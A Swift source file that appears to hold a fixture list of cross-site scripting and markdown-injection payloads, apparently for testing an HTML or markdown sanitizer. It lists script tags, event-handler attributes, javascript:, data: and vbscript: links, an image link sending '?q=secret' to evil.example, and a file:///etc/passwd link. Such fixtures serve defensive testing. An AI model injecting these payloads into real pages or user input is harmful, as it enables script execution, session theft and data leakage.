/// Texts that have run as scripts somewhere.
enum Payloads {
    static let all = html + links + mixed

    private static let html = [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)>",
        "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<math><mi xlink:href=\"data:x,<script>\">",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<style>@import 'javascript:alert(1)';</style>", "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=//evil.example>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "<!--<img src=\"--><img src=x onerror=alert(1)>\">", "<![CDATA[<script>alert(1)</script>]]>",
        "<?php <script>alert(1)</script> ?>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<p/onclick=alert(1)>x", "<x onpointerrawupdate=alert(1)>", "<\u{0}script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
        "<<script>alert(1)//<</script>",
    ]

    private static let links = [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
        "[x](java&Tab;script:alert(1))", "[x](java&NewLine;script:alert(1))", "[x](javascript&colon;alert(1))",
        "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript&#58;alert(1))", "[x](&#0000106avascript:alert(1))",
        "[x](<javascript:alert(1)>)", "[x](< javascript:alert(1)>)", "[x](<java\u{1}script:alert(1)>)",
        "[x](\u{1}javascript:alert(1))", "[x](%6Aavascript:alert(1))", "[x](javascript\\:alert(1))",
        "[x](java\\script:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
        "[x](DATA:text/html;base64,PHNjcmlwdD4=)", "[x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)", "[x](blob:https://a.b/c)", "[x](view-source:https://a.b)",
        "[x](//evil.example)", "[x](\\\\evil.example)", "[x](/\\evil.example)", "[x](http:evil)",
        "[x](https:\\\\evil.example)",
        "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<data:text/html,x>", "<vbscript:x>",
        "[x][y]\n\n[y]: javascript:alert(1)", "[y]\n\n[y]: <java&#9;script:alert(1)>", "![x](javascript:alert(1))",
        "![x](https://a.b/\"onerror=\"alert(1))", "![](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![x][y]\n\n[y]: https://evil.example/?q=secret", "![\"onerror=\"alert(1)](https://a.b)",
        "[x](https://a.b \"\\\" onmouseover=alert(1)\")", "[x](https://a.b '&quot; onclick=alert(1) x=&quot;')",
        "[<img src=x onerror=alert(1)>](https://a.b)", "[![x](javascript:a)](javascript:b)",
        "[x](https://a.b/<script>alert(1)</script>)", "www.a.b/\"onclick=alert(1)",
        "https://a.b/'><script>alert(1)</script>",
        "a@b.c\"><script>alert(1)</script>", "[x](mailto:a@b.c?subject=<script>)",
    ]

    private static let mixed = [
        "```<script>\nalert(1)\n```", "```\"onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
        "````\n```\n<script>alert(1)</script>\n````", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
        "$<script>alert(1)</script>$", "$\\href{javascript:alert(1)}{x}$", "$$</div><img src=x onerror=alert(1)>$$",
        "\\(<img src=x onerror=alert(1)>\\)", "\\[\\includegraphics{javascript:x}\\]",
        "| <script> | [x](javascript:a) |\n|-|-|\n| <img onerror=a> | ![](data:x) |", "# <script>alert(1)</script>",
        "> <svg onload=alert(1)>", "- [ ] <input onfocus=alert(1)>", "- <script>\n  alert(1)\n  </script>",
        "**<b onclick=alert(1)>**", "~~[x](javascript:a)~~", "1. [x](javascript:a)\n\n   <script>",
        "<a\n href=\"javascript:alert(1)\">x</a>", "&amp;lt;script&amp;gt;", "[x]: javascript:alert(1)\n\n[x]",
    ]
}
